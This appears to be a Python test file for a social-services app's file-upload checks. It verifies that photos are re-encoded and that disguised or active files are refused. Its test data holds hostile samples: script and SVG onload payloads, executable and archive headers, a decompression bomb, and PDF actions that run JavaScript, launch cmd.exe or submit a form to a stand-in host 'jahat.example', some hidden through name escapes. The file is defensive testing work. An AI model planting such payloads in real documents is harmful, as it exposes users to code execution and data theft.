"""Attached files: what is taken, what is refused, and that nothing of the sender's device is kept."""

from __future__ import annotations

import io

import pytest
from PIL import Image

from puskesos.errors import RuleBroken
from puskesos.files import prepare_file
from tests.attached import PDF, prepared
from tests.views.field import jpeg

LIMIT = 8 * 1024 * 1024


def png(width: int, height: int) -> bytes:
    buffer = io.BytesIO()
    Image.new("1", (width, height)).save(buffer, "PNG")
    return buffer.getvalue()


def test_a_photo_is_encoded_anew_whatever_its_name_says() -> None:
    kept = prepared(jpeg() + b"<script>alert(1)</script>", "surat.pdf")
    assert (kept.kind, kept.width, kept.height) == ("foto", 640, 480) and kept.stored_name.endswith(".jpg")
    assert b"<script>" not in kept.content and kept.size == len(kept.content)


def test_a_pdf_is_kept_as_it_came_under_a_random_name() -> None:
    kept = prepared(PDF, "foto.jpg")
    assert kept.kind == "pdf" and kept.content == PDF and kept.stored_name.endswith(".pdf")
    assert kept.stored_name != prepared(PDF).stored_name and kept.width is None


@pytest.mark.parametrize(
    ("content", "said"),
    [
        (b"", "kosong"),
        (b"<html><script>alert(1)</script></html>", "bukan foto atau PDF"),
        (b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>", "bukan foto atau PDF"),
        (b"PK\x03\x04" + b"x" * 200, "bukan foto atau PDF"),
        (b"MZ" + b"x" * 200, "bukan foto atau PDF"),
        (b"GIF89a" + b"x" * 200, "bukan foto atau PDF"),
        (b"%!PS-Adobe-3.0 EPSF-3.0\n%%EOF", "bukan foto atau PDF"),
        (b" <script>%PDF-1.7</script>%%EOF", "bukan foto atau PDF"),
        (b"%PDF-1.7 half of a file", "tidak lengkap"),
        (b"%PDF-1.7 /OpenAction << /S /JavaScript /JS (app.alert(1)) >> %%EOF", "berisi program"),
        (b"%PDF-1.7 /OpenAction << /S /J#61vaScript /JS (app.alert(1)) >> %%EOF", "berisi program"),
        (b"%PDF-1.7 /Type /Embedded#46il#65 %%EOF", "berisi program"),
        (b"%PDF-1.7 /S /Submit#46orm /F (http://jahat.example) %%EOF", "berisi program"),
        (b"%PDF-1.7 /S /Launch /F (cmd.exe) %%EOF", "berisi program"),
        (b"%PDF-1.7 /Type /EmbeddedFile %%EOF", "berisi program"),
        (png(6_000, 5_000), "terlalu besar"),
        (png(30_000, 30_000), "bukan foto atau PDF"),
    ],
    ids=[
        "empty",
        "html",
        "svg",
        "zip",
        "exe",
        "gif",
        "eps",
        "disguised",
        "half",
        "script",
        "script in escapes",
        "embedded in escapes",
        "sends itself",
        "launch",
        "embedded",
        "large",
        "bomb",
    ],
)
def test_what_is_no_photo_and_no_plain_pdf_is_refused(content: bytes, said: str) -> None:
    with pytest.raises(RuleBroken, match=said) as refused:
        prepare_file(io.BytesIO(content), "surat.pdf", limit=LIMIT)
    assert refused.value.field == "files" and "surat.pdf" in refused.value.message


def test_a_file_over_the_limit_is_refused_before_it_is_read() -> None:
    with pytest.raises(RuleBroken, match="lebih dari 1 MB"):
        prepare_file(io.BytesIO(PDF + b" " * 1024 * 1024), "surat.pdf", limit=1024 * 1024)
